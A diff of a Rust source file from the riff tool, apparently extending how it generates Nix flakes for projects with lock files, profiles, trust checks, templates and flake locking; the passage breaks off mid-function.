@@ -1,47 +1,301 @@
-use std::path::PathBuf;
+use std::collections::BTreeSet;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
 
 use eyre::{eyre, WrapErr};
 use owo_colors::OwoColorize;
+use target_lexicon::Triple;
 use tempfile::TempDir;
-use tokio::process::Command;
 
 use crate::dependency_registry::DependencyRegistry;
-use crate::dev_env::DevEnvironment;
-use crate::spinner::SimpleSpinner;
+use crate::dev_env::{
+    DetectedLanguage, DevEnvironment, EnvironmentAdditions, FlakeOutputs, PackageSource,
+};
+use crate::errors::{ErrorCode, RiffError};
+use crate::execution::Effect;
+use crate::nix_progress::NixOutput;
+use crate::offline::OfflineMode;
+use crate::project_config::{Profile, ProjectConfig, DEFAULT_NIXPKGS, PROJECT_TEMPLATE_FILE};
+use crate::riff_lock::{sha256_hex, LockedEnvironment, RiffLock, RIFF_LOCK_FILE};
+use crate::spinner::{self, Phase};
 use crate::telemetry::Telemetry;
+use crate::warnings::{Warning, WarningCode};
+
+/// Returned when the user interrupts riff (eg with Ctrl-C) while it is preparing the environment
+#[derive(Debug, thiserror::Error)]
+#[error("Interrupted")]
+pub struct Interrupted;
+
+/// The manifests riff knows how to read, which `--project-dir` may also point at directly
+const PROJECT_MANIFESTS: &[&str] = &["Cargo.toml"];
+
+/// The directory whose `Cargo.toml` riff reads for the project in `project_dir`: that of
+/// `manifest_path` (see `--manifest-path`), or the project's root
+pub fn cargo_dir(project_dir: &Path, manifest_path: Option<&Path>) -> PathBuf {
+    manifest_path
+        .and_then(|manifest_path| manifest_dir(manifest_path).ok())
+        .unwrap_or_else(|| project_dir.to_path_buf())
+}
+
+/// The files of the project in `project_dir` which decide the environment of the languages besides
+/// Rust that riff detects. Unlike the Cargo manifest, which `--manifest-path` may name, these are
+/// always read from the project directory.
+pub fn language_files(project_dir: &Path) -> Vec<PathBuf> {
+    let mut files = crate::cabal::watched_files(project_dir);
+    files.extend(crate::dotnet::watched_files(project_dir));
+    files
+}
+
+/// The directory containing the manifest at `manifest_path`, which must be one riff can read
+fn manifest_dir(manifest_path: &Path) -> color_eyre::Result<PathBuf> {
+    let is_manifest = manifest_path
+        .file_name()
+        .and_then(|file_name| file_name.to_str())
+        .map(|file_name| PROJECT_MANIFESTS.contains(&file_name))
+        .unwrap_or(false);
+    if !is_manifest || !manifest_path.is_file() {
+        return Err(eyre!(
+            "`{}` is not a manifest recognized by Riff ({})",
+            manifest_path.display(),
+            PROJECT_MANIFESTS.join(", "),
+        ));
+    }
+    let dir = manifest_path.parent().unwrap_or(manifest_path);
+    Ok(dir.canonicalize().unwrap_or_else(|_| dir.to_path_buf()))
+}
+
+/// Options controlling how `generate_flake_from_project_dir` generates a flake
+#[derive(Debug, Clone, Default)]
+pub struct GenerateOptions {
+    /// How much the network may be used, see `--offline`
+    pub offline: OfflineMode,
+    /// Use the current directory as the project even if it's inside one, see `--no-walk-up`
+    pub no_walk_up: bool,
+    /// Install Nix without asking if it's missing, see `--install-nix`
+    pub install_nix: bool,
+    /// Fetch the registry and the flake's inputs (and run `cargo metadata`) again instead of
+    /// using cached copies, see `--refresh`
+    pub refresh: bool,
+    pub disable_telemetry: bool,
+    /// Fail if any warnings are reported, see `--deny-warnings`
+    pub deny_warnings: bool,
+    /// Fail if fields riff doesn't know are reported, see `--strict`
+    pub strict: bool,
+    /// The `riff.toml` profile to apply, see `--profile`
+    pub profile: Option<String>,
+    /// Detect the environment even if the project has a `riff.lock`, and write the result to it
+    pub relock: bool,
+    /// Generate a standalone flake without riff-specific markers, see `riff eject`
+    pub eject: bool,
+    /// Only generate `flake.nix`, without running `nix flake lock` (so Nix needn't be installed),
+    /// see `riff generate --no-eval`
+    pub no_eval: bool,
+    /// Outputs to generate besides the dev shell, see `riff generate --with-package`
+    pub extra_outputs: FlakeOutputs,
+    /// Overlays to apply after those in `riff.toml`, see `--overlay`
+    pub overlays: Vec<String>,
+    /// The workspace member to scope the environment to, see `--package`
+    pub package: Option<String>,
+    /// The Cargo manifest to read instead of the project's own, see `--manifest-path`
+    pub manifest_path: Option<PathBuf>,
+    /// The target to decide target-specific dependencies for instead of the host, see `--target`
+    pub target: Option<Triple>,
+    /// The language to narrow the environment of a project in several to, see `riff shell --only`
+    pub only: Option<DetectedLanguage>,
+    /// Inputs and environment variables to add, see `riff run --input` and `--env`
+    pub additions: EnvironmentAdditions,
+    /// Ask which packages to use if the project isn't recognized, see `riff generate
+    /// --interactive`
+    pub interactive: bool,
+    /// Add nixGL's wrappers for the environment's graphics libraries, see `riff run --nixgl`
+    pub nixgl: bool,
+    /// The flake template to render instead of the project's `riff-template.nix`, see
+    /// `riff generate --template`
+    pub template: Option<PathBuf>,
+    /// Give directories without a recognized project a base environment instead of an error, see
+    /// `--allow-empty`
+    pub allow_empty: bool,
+}
+
+enum PipelineError {
+    Detect(eyre::Report),
+    Lock(eyre::Report),
+}
 
 /// Generates a `flake.nix` by inspecting the specified `project_dir` for supported project types.
-#[tracing::instrument(skip(disable_telemetry))]
+#[tracing::instrument(skip(options), fields(offline = ?options.offline))]
 pub async fn generate_flake_from_project_dir(
     project_dir: Option<PathBuf>,
-    offline: bool,
-    disable_telemetry: bool,
+    options: &GenerateOptions,
 ) -> color_eyre::Result<TempDir> {
-    let project_dir = match project_dir {
-        Some(dir) => dir,
-        None => std::env::current_dir().wrap_err("Current working directory was invalid")?,
-    };
+    let GenerateOptions {
+        offline: offline_mode,
+        disable_telemetry,
+        deny_warnings,
+        eject,
+        relock,
+        no_eval,
+        ..
+    } = *options;
+    if relock && no_eval {
+        return Err(eyre!(
+            "Locking the environment requires running `nix flake lock`"
+        ));
+    }
+    let offline = offline_mode.is_offline();
+
+    let project_dir = resolve_project_dir(
+        project_dir,
+        options.manifest_path.as_deref(),
+        !options.no_walk_up,
+    )?;
     tracing::debug!("Project directory is '{}'.", project_dir.display());
 
-    let registry = DependencyRegistry::new(offline).await?;
-    let mut dev_env = DevEnvironment::new(&registry);
-
-    match dev_env.detect(&project_dir).await {
-        Ok(_) => {}
-        Err(err) => {
-            let err_msg = format!(
-                "\
-                `{colored_project_dir}` doesn't contain a project recognized by Riff.\n\
-                Try running `{riff_shell}` in a Rust project directory.\
-                ",
-                colored_project_dir = &project_dir.display().to_string().green(),
-                riff_shell = "riff shell".cyan(),
-            );
-            eprintln!("{err_msg}\n\nUnderlying error:\n{err}", err = err.red());
-            std::process::exit(1);
+    let project_config = load_project_config(&project_dir).await?;
+    let profile = project_config.profile(options.profile.as_deref())?;
+
+    // `riff.lock` records the environment of the whole workspace, in all its languages, for one
+    // target
+    let target = options.target.clone().unwrap_or_else(Triple::host);
+    if !relock && options.package.is_none() && options.only.is_none() {
+        let riff_lock = RiffLock::load(&project_dir).await?;
+        if let Some(riff_lock) = riff_lock.filter(|riff_lock| riff_lock.is_for(&target)) {
+            return generate_flake_from_lock(
+                &project_dir,
+                &project_config,
+                profile,
+                riff_lock,
+                options,
+            )
+            .await;
         }
+    }
+
+    let registry = load_registry(offline, options.refresh).await?;
+    let mut dev_env = configured_dev_env(&registry, &project_dir, &project_config, options).await?;
+
+    // Offer to install Nix now, rather than failing once we first need it.
+    if !no_eval {
+        crate::install_nix::offer_install(offline, options.install_nix).await?;
+    }
+
+    let flake_dir = TempDir::new()?;
+    let flake_nix_path = flake_dir.path().join("flake.nix");
+
+    // `nix flake lock` only resolves the flake's inputs, and those don't depend on anything we
+    // detect in the project. Lock a flake without any project dependencies while detection runs,
+    // then swap in the real `flake.nix` afterwards.
+    let placeholder_flake_nix = dev_env.to_flake();
+    let pipeline = async {
+        tokio::try_join!(
+            async {
+                let _timer = crate::timings::start("detection");
+                dev_env
+                    .detect(&project_dir)
+                    .await
+                    .map_err(PipelineError::Detect)
+            },
+            async {
+                if no_eval {
+                    return Ok(());
+                }
+                lock_flake(
+                    flake_dir.path(),
+                    &placeholder_flake_nix,
+                    offline_mode,
+                    options.refresh,
+                )
+                .await
+                .map_err(PipelineError::Lock)
+            },
+        )
+    };
+
+    // Dropping the pipeline kills any running `cargo` or `nix` children (they are spawned with
+    // `kill_on_drop`), and returning drops `flake_dir`, which cleans up the temporary flake.
+    let pipeline_result = tokio::select! {
+        result = pipeline => Some(result),
+        _ = tokio::signal::ctrl_c() => None,
+    };
+    match pipeline_result {
+        None => return Err(Interrupted.into()),
+        Some(Err(PipelineError::Detect(err)))
+            if ErrorCode::of(&err) == ErrorCode::NoProject
+                && (options.interactive || allows_empty(options, &project_config)) =>
+        {
+            if options.interactive {
+                tracing::debug!(%err, "Picking packages for an unrecognized project");
+                eprintln!(
+                    "`{}` doesn't contain a project recognized by Riff, pick the packages its \
+                    environment needs:",
+                    project_dir.display().to_string().green(),
+                );
+                let nixpkgs = dev_env.nixpkgs.as_deref().unwrap_or(DEFAULT_NIXPKGS);
+                let picked = crate::picker::pick_packages(nixpkgs, offline).await?;
+                dev_env.add_picked(picked);
+            } else {
+                tracing::debug!(%err, "Using the base environment for an unrecognized project");
+                dev_env.add_base_environment();
+            }
+            // The failed detection cancelled locking the placeholder flake
+            if !no_eval {
+                lock_flake(
+                    flake_dir.path(),
+                    &placeholder_flake_nix,
+                    offline_mode,
+                    options.refresh,
+                )
+                .await?;
+            }
+        }
+        Some(Err(PipelineError::Detect(err) | PipelineError::Lock(err))) => return Err(err),
+        Some(Ok(_)) => {}
     };
 
+    // The placeholder flake didn't have the flakes pinned inputs come from, so lock those too.
+    if !no_eval && dev_env.has_pinned_inputs() {
+        lock_flake(
+            flake_dir.path(),
+            &dev_env.to_flake(),
+            offline_mode,
+            options.refresh,
+        )
+        .await?;
+    }
+    let locked_inputs = dev_env.pinned_inputs();
+
+    // Lock the environment as detected, without any profile applied. A dry run didn't lock the
+    // flake, so there's no `flake.lock` to record.
+    if relock && crate::execution::dry_run() {
+        crate::execution::perform(Effect::Write(project_dir.join(RIFF_LOCK_FILE)));
+    } else if relock {
+        RiffLock::new(
+            &cargo_dir(&project_dir, options.manifest_path.as_deref()),
+            flake_dir.path(),
+            &dev_env,
+        )
+        .await?
+        .write(&project_dir)
+        .await?;
+    }
+
+    if let Some(language) = options.only {
+        dev_env.only(language)?;
+    }
+    apply_profile(&mut dev_env, &project_dir, profile).await?;
+    dev_env.apply_additions(&options.additions);
+    if options.nixgl && crate::platform::needs_nixgl() {
+        dev_env.add_nixgl();
+    }
+    lock_added_inputs(flake_dir.path(), &dev_env, &locked_inputs, options).await?;
+
+    crate::warnings::report(
+        &dev_env.warnings,
+        &project_config.suppress,
+        deny_warnings,
+        options.strict,
+    )?;
+
     // If the user is using an old version of `riff`, we want to let them know.
     // We do it after detecting the dependencies because we'd prefer the user's first
     // output from the program not to be a scary error, especially when it's neither scary or an
@@ -70,80 +324,675 @@ pub async fn generate_flake_from_project_dir(
         match Telemetry::new()
             .await
             .with_detected_languages(&dev_env.detected_languages)
-            .send()
+            .enqueue()
             .await
         {
             Ok(_) => (),
-            Err(err) => tracing::debug!(%err, "Could not send telemetry"),
+            Err(err) => tracing::debug!(%err, "Could not queue telemetry"),
         };
     }
 
-    let flake_nix = dev_env.to_flake();
-    tracing::trace!("Generated 'flake.nix':\n{}", flake_nix);
+    let cargo_dir = cargo_dir(&project_dir, options.manifest_path.as_deref());
+    set_extra_outputs(
+        &mut dev_env,
+        &project_dir,
+        &cargo_dir,
+        options.extra_outputs,
+    )
+    .await;
+    write_flake_nix(&flake_nix_path, &dev_env, eject).await?;
+    if !no_eval && !dev_env.overlays.is_empty() {
+        verify_overlays(flake_dir.path(), offline).await?;
+    }
+
+    Ok(flake_dir)
+}
+
+/// Generates a `flake.nix` and `flake.lock` from the environment recorded in a project's
+/// `riff.lock`, without detecting anything.
+#[tracing::instrument(skip_all)]
+async fn generate_flake_from_lock(
+    project_dir: &Path,
+    project_config: &ProjectConfig,
+    profile: Option<(&str, &Profile)>,
+    riff_lock: RiffLock,
+    options: &GenerateOptions,
+) -> color_eyre::Result<TempDir> {
+    tracing::debug!("Using the environment from `{RIFF_LOCK_FILE}`");
+
+    // The lock records everything the registry contributed, so there's no need to refresh it.
+    let registry = DependencyRegistry::new(true, false).await?;
+    let mut dev_env = configured_dev_env(&registry, project_dir, project_config, options).await?;
+    dev_env.nixpkgs = Some(riff_lock.nixpkgs.clone());
+    apply_lock(&mut dev_env, project_dir, &riff_lock).await?;
+    dev_env.apply_exclusions();
+    let locked_inputs = dev_env.pinned_inputs();
+
+    let cargo_dir = cargo_dir(project_dir, options.manifest_path.as_deref());
+    if riff_lock.is_stale(&cargo_dir).await? {
+        dev_env.warnings.push(Warning::new(
+            WarningCode::StaleLock,
+            format!(
+                "`{RIFF_LOCK_FILE}` was made for a different `Cargo.lock`, so it may be missing \
+                dependencies. Run `riff lock --update` to refresh it."
+            ),
+        ));
+    }
+    apply_profile(&mut dev_env, project_dir, profile).await?;
+    dev_env.apply_additions(&options.additions);
+    if options.nixgl && crate::platform::needs_nixgl() {
+        dev_env.add_nixgl();
+    }
+    crate::warnings::report(
+        &dev_env.warnings,
+        &project_config.suppress,
+        options.deny_warnings,
+        options.strict,
+    )?;
 
     let flake_dir = TempDir::new()?;
-    let flake_nix_path = flake_dir.path().join("flake.nix");
+    tokio::fs::write(
+        flake_dir.path().join("flake.lock"),
+        serde_json::to_string_pretty(&riff_lock.flake_lock)?,
+    )
+    .await
+    .wrap_err("Unable to write flake.lock")?;
+    lock_added_inputs(flake_dir.path(), &dev_env, &locked_inputs, options).await?;
+    set_extra_outputs(&mut dev_env, project_dir, &cargo_dir, options.extra_outputs).await;
+    write_flake_nix(&flake_dir.path().join("flake.nix"), &dev_env, options.eject).await?;
+    if !options.no_eval && !dev_env.overlays.is_empty() {
+        verify_overlays(flake_dir.path(), options.offline.is_offline()).await?;
+    }
+
+    Ok(flake_dir)
+}
+
+/// A project's environment as `riff env diff` compares it
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ResolvedEnvironment {
+    pub environment: LockedEnvironment,
+    /// The `nixpkgs` flake reference
+    pub nixpkgs: String,
+    /// The overlays applied to Nixpkgs
+    pub overlays: Vec<String>,
+}
+
+/// The environment of the project in `project_dir`, without generating a flake for it: the one
+/// recorded in its `riff.lock` if `from_lock` is set, otherwise a freshly detected one. It is
+/// configured like [`generate_flake_from_project_dir`] configures the environment of a flake.
+pub async fn resolve_environment(
+    project_dir: &Path,
+    options: &GenerateOptions,
+    from_lock: bool,
+) -> color_eyre::Result<ResolvedEnvironment> {
+    let project_config = load_project_config(project_dir).await?;
+    let profile = project_config.profile(options.profile.as_deref())?;
+    let registry =
+        load_registry(options.offline.is_offline() || from_lock, options.refresh).await?;
+    let mut dev_env = configured_dev_env(&registry, project_dir, &project_config, options).await?;
+
+    if from_lock {
+        let riff_lock = RiffLock::load(project_dir).await?.ok_or_else(|| {
+            eyre!(
+                "`{}` doesn't have a `{RIFF_LOCK_FILE}`",
+                project_dir.display()
+            )
+        })?;
+        if !riff_lock.is_for(&dev_env.target) {
+            return Err(eyre!(
+                "`{RIFF_LOCK_FILE}` was made for another target than `{}`. Run `riff lock --update --target {}` to recreate it for that target.",
+                dev_env.target,
+                dev_env.target,
+            ));
+        }
+        dev_env.nixpkgs = Some(riff_lock.nixpkgs.clone());
+        apply_lock(&mut dev_env, project_dir, &riff_lock).await?;
+        dev_env.apply_exclusions();
+    } else {
+        match dev_env.detect(project_dir).await {
+            Err(err)
+                if ErrorCode::of(&err) == ErrorCode::NoProject
+                    && allows_empty(options, &project_config) =>
+            {
+                dev_env.add_base_environment();
+            }
+            result => result?,
+        }
+    }
+    apply_profile(&mut dev_env, project_dir, profile).await?;
+    Ok(ResolvedEnvironment {
+        environment: LockedEnvironment::from_dev_env(&dev_env),
+        nixpkgs: dev_env
+            .nixpkgs
+            .clone()
+            .unwrap_or_else(|| DEFAULT_NIXPKGS.to_string()),
+        overlays: dev_env.overlays.clone(),
+    })
+}
+
+/// Load the configuration of the project in `project_dir`, and have the `nix` commands run on its
+/// environment use the binary caches and limits it sets
+async fn load_project_config(project_dir: &Path) -> color_eyre::Result<ProjectConfig> {
+    let project_config = ProjectConfig::load(project_dir).await?;
+    use_project_substituters(project_dir, &project_config).await?;
+    crate::process_limits::use_project_limits(project_config.max_jobs, project_config.cores);
+    Ok(project_config)
+}
+
+/// Pass the binary caches the configuration of the project in `project_dir` adds to `nix`, if the
+/// project is trusted with them: a cache whose key Nix trusts can provide any store path
+async fn use_project_substituters(
+    project_dir: &Path,
+    project_config: &ProjectConfig,
+) -> color_eyre::Result<()> {
+    let substituters = project_config.substituters();
+    if crate::trust::check(project_dir, &substituters.describe()).await? {
+        crate::nix_config::use_substituters(substituters);
+    } else {
+        tracing::debug!("Leaving out the binary caches of an untrusted project");
+    }
+    Ok(())
+}
+
+/// Apply the environment recorded in `riff_lock`, with the environment variables and shell hooks
+/// it records only if the project in `project_dir` is trusted with them, since the lock could
+/// have been edited to say anything
+async fn apply_lock(
+    dev_env: &mut DevEnvironment<'_>,
+    project_dir: &Path,
+    riff_lock: &RiffLock,
+) -> color_eyre::Result<()> {
+    let overrides = riff_lock.environment.overrides();
+    if crate::trust::check(project_dir, &overrides).await? {
+        riff_lock.environment.apply_to(dev_env);
+    } else {
+        riff_lock.environment.without_overrides().apply_to(dev_env);
+        dev_env.warnings.push(crate::trust::untrusted_warning(
+            &format!("`{RIFF_LOCK_FILE}`"),
+            &overrides,
+        ));
+    }
+    Ok(())
+}
+
+/// Apply the `riff.toml` `profile`, if any, with the environment variables it sets only if the
+/// project in `project_dir` is trusted with them
+async fn apply_profile(
+    dev_env: &mut DevEnvironment<'_>,
+    project_dir: &Path,
+    profile: Option<(&str, &Profile)>,
+) -> color_eyre::Result<()> {
+    let Some((name, profile)) = profile else {
+        return Ok(());
+    };
+    let overrides = profile.overrides();
+    if crate::trust::check(project_dir, &overrides).await? {
+        dev_env.apply_profile(name, profile);
+    } else {
+        dev_env.apply_profile(name, &profile.without_overrides());
+        dev_env.warnings.push(crate::trust::untrusted_warning(
+            &format!("The `{name}` profile"),
+            &overrides,
+        ));
+    }
+    Ok(())
+}
+
+/// A `DevEnvironment` set up with the settings of the project in `project_dir`, from its
+/// `riff.toml` (and the layers that includes) and `options`, before anything is detected
+async fn configured_dev_env<'a>(
+    registry: &'a DependencyRegistry,
+    project_dir: &Path,
+    project_config: &ProjectConfig,
+    options: &GenerateOptions,
+) -> color_eyre::Result<DevEnvironment<'a>> {
+    let environment_config = project_config.resolve(project_dir).await;
+    let mut dev_env = DevEnvironment::new(registry);
+    dev_env.template = load_template(project_dir, options.template.as_deref()).await?;
+    // The project's own template can make the flake do anything, unlike one given with
+    // `--template`
+    if dev_env.template.is_some() && options.template.is_none() {
+        let overrides = [format!("the flake template `{PROJECT_TEMPLATE_FILE}`")];
+        if !crate::trust::check(project_dir, &overrides).await? {
+            dev_env.template = None;
+            dev_env
+                .warnings
+                .push(crate::trust::untrusted_warning("The project", &overrides));
+        }
+    }
+    dev_env.nixpkgs = environment_config.nixpkgs;
+    dev_env.overlays = project_config.overlays(&options.overlays);
+    dev_env.conflict_strategies = project_config.conflicts.clone();
+    dev_env.exclusions = project_config.exclusions();
+    dev_env.package = options.package.clone();
+    dev_env.manifest_path = options.manifest_path.clone();
+    dev_env.target = options.target.clone().unwrap_or_else(Triple::host);
+    dev_env.offline = options.offline;
+    dev_env.refresh = options.refresh;
+    Ok(dev_env)
+}
+
+/// Whether a directory riff doesn't recognize gets the base environment, see `--allow-empty`
+fn allows_empty(options: &GenerateOptions, project_config: &ProjectConfig) -> bool {
+    options.allow_empty || project_config.allow_empty
+}
+
+/// Generate `extra_outputs`, naming the package after `project_dir` if its name isn't known, and
+/// building it from the workspace the Cargo manifest in `cargo_dir` belongs to
+async fn set_extra_outputs(
+    dev_env: &mut DevEnvironment<'_>,
+    project_dir: &Path,
+    cargo_dir: &Path,
+    extra_outputs: FlakeOutputs,
+) {
+    dev_env.extra_outputs = extra_outputs;
+    if extra_outputs == FlakeOutputs::default() {
+        return;
+    }
+    if dev_env.project_name.is_none() {
+        dev_env.project_name = project_dir.canonicalize().ok().and_then(|dir| {
+            dir.file_name()
+                .map(|name| name.to_string_lossy().to_string())
+        });
+    }
+
+    // The flake is written to the project, and can only refer to what's in it
+    let project_dir = project_dir
+        .canonicalize()
+        .unwrap_or_else(|_| project_dir.to_path_buf());
+    let workspace_root = crate::cargo_metadata::workspace_root(cargo_dir).await;
+    let Ok(relative_root) = workspace_root.strip_prefix(&project_dir) else {
+        tracing::debug!(workspace_root = %workspace_root.display(), "The workspace is outside the project, building the project's root");
+        return;
+    };
+    dev_env.package_source = PackageSource {
+        workspace_root: relative_root.to_path_buf(),
+        member: cargo_dir
+            .strip_prefix(&workspace_root)
+            .ok()
+            .filter(|member| !member.as_os_str().is_empty())
+            .map(Path::to_path_buf),
+    };
+}
+
+/// The flake template at `template`, or else the project's `riff-template.nix` if it has one
+async fn load_template(
+    project_dir: &Path,
+    template: Option<&Path>,
+) -> color_eyre::Result<Option<String>> {
+    let path = match template {
+        Some(template) => template.to_path_buf(),
+        None => {
+            let path = project_dir.join(PROJECT_TEMPLATE_FILE);
+            if !path.is_file() {
+                return Ok(None);
+            }
+            path
+        }
+    };
+    tracing::debug!("Rendering the flake template `{}`", path.display());
+    let template = tokio::fs::read_to_string(&path)
+        .await
+        .wrap_err_with(|| format!("Unable to read the flake template `{}`", path.display()))?;
+    Ok(Some(template))
+}
 
-    tokio::fs::write(&flake_nix_path, &flake_nix)
+async fn write_flake_nix(
+    flake_nix_path: &Path,
+    dev_env: &DevEnvironment<'_>,
+    eject: bool,
+) -> color_eyre::Result<()> {
+    let flake_nix = if eject {
+        dev_env.to_ejected_flake()
+    } else {
+        dev_env.to_flake()
+    };
+    tracing::trace!("Generated 'flake.nix':\n{}", flake_nix);
+
+    tokio::fs::write(flake_nix_path, &flake_nix)
+        .await
+        .wrap_err("Unable to write flake.nix")
+}
+
+/// Resolves the `--project-dir` given to a command, defaulting to the project the current
+/// directory is in (see [`discover_project_dir`]), or with `walk_up` cleared (see
+/// `--no-walk-up`), to the current directory itself.
+///
+/// `project_dir` may also be the path of a project's manifest (eg `Cargo.toml`), in which case the
+/// directory containing it is used.
+///
+/// The directory is canonicalized, so a project reached through a symlink or from another git
+/// worktree's relative path is the same project wherever it was reached from.
+///
+/// With a `manifest_path` (see `--manifest-path`), the manifest isn't looked for: the project is
+/// in the current directory unless `project_dir` says otherwise.
+pub fn resolve_project_dir(
+    project_dir: Option<PathBuf>,
+    manifest_path: Option<&Path>,
+    walk_up: bool,
+) -> color_eyre::Result<PathBuf> {
+    if let Some(manifest_path) = manifest_path {
+        manifest_dir(manifest_path)?;
+    }
+    let project_dir = match project_dir {
+        Some(dir) => dir,
+        None => {
+            let current_dir =
+                std::env::current_dir().wrap_err("Current working directory was invalid")?;
+            if walk_up && manifest_path.is_none() {
+                discover_project_dir(&current_dir)
+            } else {
+                current_dir
+            }
+        }
+    };
+
+    let project_dir = if project_dir.is_file() {
+        let is_manifest = project_dir
+            .file_name()
+            .and_then(|file_name| file_name.to_str())
+            .map(|file_name| PROJECT_MANIFESTS.contains(&file_name))
+            .unwrap_or(false);
+        if !is_manifest {
+            return Err(eyre!(
+                "`{}` is neither a directory nor a manifest recognized by Riff ({})",
+                project_dir.display(),
+                PROJECT_MANIFESTS.join(", "),
+            ));
+        }
+
+        // The parent of a bare `Cargo.toml` is an empty path, which means the current directory
+        project_dir
+            .parent()
+            .filter(|parent| !parent.as_os_str().is_empty())
+            .map(Path::to_path_buf)
+            .unwrap_or_else(|| PathBuf::from("."))
+    } else {
+        project_dir
+    };
+
+    // A directory which doesn't exist is reported by whatever looks in it
+    Ok(project_dir.canonicalize().unwrap_or(project_dir))
+}
+
+/// A key for what riff caches about the project in `project_dir`, the same however the directory
+/// is reached (through a symlink, with `..`, ...)
+pub fn project_cache_key(project_dir: &Path) -> String {
+    let project_dir = project_dir
+        .canonicalize()
+        .unwrap_or_else(|_| project_dir.to_path_buf());
+    sha256_hex(project_dir.to_string_lossy().as_bytes())
+}
+
+/// The root of the project `start` is in, like Cargo finds it: the nearest directory with a
+/// manifest, or the workspace above that it belongs to.
+///
+/// The search stops at the root of a git repository, which is the project if nothing closer is,
+/// and falls back to `start` itself.
+fn discover_project_dir(start: &Path) -> PathBuf {
+    let mut project_dir = None;
+    for dir in start.ancestors() {
+        let manifest = PROJECT_MANIFESTS
+            .iter()
+            .map(|manifest| dir.join(manifest))
+            .find(|manifest| manifest.is_file());
+        if let Some(manifest) = manifest {
+            if project_dir.is_none() {
+                project_dir = Some(dir);
+            } else if is_workspace_root(&manifest) {
+                project_dir = Some(dir);
+                break;
+            }
+        }
+        if dir.join(".git").exists() {
+            project_dir = project_dir.or(Some(dir));
+            break;
+        }
+    }
+
+    let project_dir = project_dir.unwrap_or(start);
+    if project_dir != start {
+        tracing::debug!("Found the project in '{}'", project_dir.display());
+    }
+    project_dir.to_path_buf()
+}
+
+/// Whether the Cargo manifest at `manifest` declares a workspace
+pub(crate) fn is_workspace_root(manifest: &Path) -> bool {
+    std::fs::read_to_string(manifest)
+        .ok()
+        .and_then(|contents| toml::from_str::<toml::Value>(&contents).ok())
+        .map(|manifest| manifest.get("workspace").is_some())
+        .unwrap_or(false)
+}
+
+/// Evaluates the dev shell of the flake in `flake_dir`, so that an overlay which breaks Nixpkgs
+/// is reported as such rather than as a failure to enter the environment
+#[tracing::instrument(skip_all)]
+async fn verify_overlays(flake_dir: &Path, offline: bool) -> color_eyre::Result<()> {
+    let _timer = crate::timings::start("nix eval (overlays)");
+    let mut nix_eval_command = crate::nix_config::command(["eval"]);
+    nix_eval_command
+        .arg("--raw")
+        .arg(format!(
+            "path://{}#devShells.{}.default.drvPath",
+            flake_dir.display(),
+            crate::target_cfg::nix_system(&target_lexicon::HOST)
+        ))
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .kill_on_drop(true);
+    if offline {
+        nix_eval_command.arg("--offline");
+    }
+    crate::process_limits::apply_to_nix(&mut nix_eval_command);
+    if !crate::execution::perform(Effect::run(nix_eval_command.as_std())) {
+        return Ok(());
+    }
+
+    let spinner = spinner::start(
+        Phase::EvaluatingEnvironment,
+        "Checking the overlays evaluate",
+    )
+    .context("Failed to construct progress spinner")?;
+    let output = crate::command_runner::run(&mut nix_eval_command, offline, &mut |_| {})
+        .await
+        .wrap_err("Could not run `nix eval` to check the overlays")?;
+    spinner.finish_and_clear();
+
+    if !output.status.success() {
+        return Err(RiffError::new(
+            ErrorCode::NixFailed,
+            format!(
+                "The environment doesn't evaluate with the configured overlays (from `riff.toml` \
+                and `--overlay`):\n{}",
+                String::from_utf8_lossy(&output.stderr),
+            ),
+        )
+        .into());
+    }
+    Ok(())
+}
+
+/// Load the dependency registry, refreshing it unless `offline` is set (before returning if
+/// `refresh` is set)
+async fn load_registry(offline: bool, refresh: bool) -> color_eyre::Result<DependencyRegistry> {
+    let spinner = spinner::start(Phase::ResolvingRegistry, "Loading the dependency registry")
+        .context("Failed to construct progress spinner")?;
+    let registry = DependencyRegistry::new(offline, refresh).await?;
+    spinner.finish_and_clear();
+    Ok(registry)
+}
+
+/// Lock the flakes a profile, `--input`, or `--nixgl` pinned inputs to, if the `flake.lock` in
+/// `flake_dir` was locked with only `locked_inputs`
+async fn lock_added_inputs(
+    flake_dir: &Path,
+    dev_env: &DevEnvironment<'_>,
+    locked_inputs: &BTreeSet<String>,
+    options: &GenerateOptions,
+) -> color_eyre::Result<()> {
+    if options.no_eval || dev_env.pinned_inputs().is_subset(locked_inputs) {
+        return Ok(());
+    }
+    lock_flake(
+        flake_dir,
+        &dev_env.to_flake(),
+        options.offline,
+        options.refresh,
+    )
+    .await
+}
+
+/// The error for `command` failing to start because Nix isn't installed
+pub(crate) fn missing_nix(command: &str) -> RiffError {
+    RiffError::new(
+        ErrorCode::MissingTool,
+        format!(
+            "Could not execute `{command}`. Is `nix` installed?\n\n\
+            Run `riff doctor` to install it, or get instructions for installing Nix: \
+            https://nixos.org/download.html"
+        ),
+    )
+}
+
+/// Writes `flake_nix` into `flake_dir` and runs `nix flake lock` on it
+async fn lock_flake(
+    flake_dir: &Path,
+    flake_nix: &str,
+    offline_mode: OfflineMode,
+    refresh: bool,
+) -> color_eyre::Result<()> {
+    let _timer = crate::timings::start("nix flake lock");
+    let offline = offline_mode.is_offline();
+    tokio::fs::write(flake_dir.join("flake.nix"), flake_nix)
         .await
         .wrap_err("Unable to write flake.nix")?;
 
-    let mut nix_lock_command = Command::new("nix");
+    let refresh = refresh && !offline;
+    let mut nix_lock_exit = run_nix_flake_lock(flake_dir, offline, refresh).await?;
+    // Offline, there's nothing to download again
+    if !nix_lock_exit.status.success()
+        && !offline
+        && !refresh
+        && is_stale_download(&nix_lock_exit.progress.errors())
+    {
+        tracing::debug!(errors = %nix_lock_exit.progress.errors(), "Stale download");
+        crate::spinner::suspend(|| {
+            eprintln!(
+                "{} `{nix_flake_lock}` failed on a stale cached download of Nixpkgs, retrying with `{refresh}`",
+                "⚠".yellow(),
+                nix_flake_lock = "nix flake lock".cyan(),
+                refresh = "--refresh".cyan(),
+            );
+        });
+        nix_lock_exit = run_nix_flake_lock(flake_dir, offline, true).await?;
+    }
+
+    if !nix_lock_exit.status.success() {
+        if offline_mode.is_strict() {
+            return Err(crate::offline::not_cached(
+                "nix flake lock",
+                "Nixpkgs or another input of the environment",
+                &nix_lock_exit.progress.errors(),
+            )
+            .into());
+        }
+        return Err(RiffError::new(
+            ErrorCode::NixFailed,
+            format!(
+                "`nix flake lock` exited with code {}:\n{}",
+                nix_lock_exit
+                    .status
+                    .code()
+                    .map(|x| x.to_string())
+                    .unwrap_or_else(|| "unknown".to_string()),
